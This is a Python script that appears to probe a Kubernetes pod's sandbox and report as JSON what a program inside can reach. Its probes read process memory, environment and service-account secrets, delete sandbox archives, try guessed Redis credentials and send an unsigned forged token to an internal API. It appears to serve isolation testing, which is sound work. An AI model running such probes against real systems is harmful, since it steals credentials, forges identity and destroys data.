"""Committed into a repository and run as its tests: tells as JSON what a program in a real pod's sandbox can do."""

import json
import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from functools import partial
from pathlib import Path

NAMESPACE = sys.argv[1]
REDIS, API, OPERATOR = "forge-redis", "forge-api", "forge-operator"
CLAIMS = f"http://{API}-internal.{NAMESPACE}.svc:8081/internal/v1/attempts"
FORGED = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6dGVuYW50LWRlbW86Zm9yZ2UtcnVubmVyIn0."
"""A token of the runner's account without a signature."""


def tried(act: Callable[[], object]) -> str:
    try:
        return str(act())
    except Exception as error:
        return type(error).__name__


def redis(*lines: str) -> str:
    with socket.create_connection((f"{REDIS}.{NAMESPACE}.svc", 6379), 10) as call:
        answers = []
        for line in lines:
            call.sendall(f"{line}\r\n".encode())
            answers.append(call.recv(200).decode().strip())
    return " | ".join(answers)


def http(url: str, token: str = "", method: str = "GET") -> str:
    headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {token}"} if token else {})}
    request = urllib.request.Request(url, headers=headers, method=method, data=b"{}" if method == "POST" else None)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return str(answer.status)
    except urllib.error.HTTPError as error:
        return str(error.code)


def loopback() -> list[int]:
    """Ports of the pod's loopback on which somebody listens."""
    found = []
    for port in range(1, 65536):
        with socket.socket() as call:
            answered = call.connect_ex(("127.0.0.1", port)) == 0
            if answered and call.getsockname() != call.getpeername():  # a call from the very port reaches itself
                found.append(port)
    return found


def writes(folder: str) -> str:
    def act() -> str:
        Path(folder, "written-by-a-probe").write_text("x")
        return "written"

    return tried(act)


def names(folder: str) -> list[str]:
    return sorted(entry.name for entry in Path(folder).iterdir())


def command_line(process: str) -> str:
    return Path("/proc", process, "cmdline").read_text().replace("\0", " ")


def told() -> dict[str, object]:
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    processes = [name for name in names("/proc") if name.isdigit()]
    return {
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "variables": sorted(os.environ),
        "status": {name: text.strip() for name, text in status.items()},
        "processes": {name: tried(partial(command_line, name)) for name in processes},
        "first": {name: tried(Path("/proc/1", name).read_bytes) for name in ("environ", "mem", "maps")},
        "secrets": tried(lambda: names("/var/run/secrets")),
        "token": tried(Path("/var/run/secrets/forge-api/token").read_text),
        "work": tried(lambda: names("/work")),
        "volume": [name for name in names("/sandbox") if not name.startswith("tree-")],
        "archives": [tried(path.unlink) for path in Path("/sandbox").glob("tree-*")],
        "writes": {folder: writes(folder) for folder in ("/", "/tmp", "/var/tmp", "/app", "/work", "/dev", "/run")},
        "redis": tried(lambda: redis("PING", "AUTH tenant-demo guess", "KEYS *")),
        "claim": tried(lambda: http(f"http://{API}-internal.{NAMESPACE}.svc:8081/internal/v1/attempts", "", "POST")),
        "forged": tried(
            lambda: http(f"http://{API}-internal.{NAMESPACE}.svc:8081/internal/v1/attempts", FORGED, "POST")
        ),
        "api": tried(lambda: http(f"http://{API}.{NAMESPACE}.svc/analyses")),
        "explain": tried(lambda: http(f"http://{OPERATOR}.{NAMESPACE}.svc:8080/explain/x")),
        "loopback": loopback(),
    }


sys.stdout.write(f"PROBE {json.dumps(told())}\n")
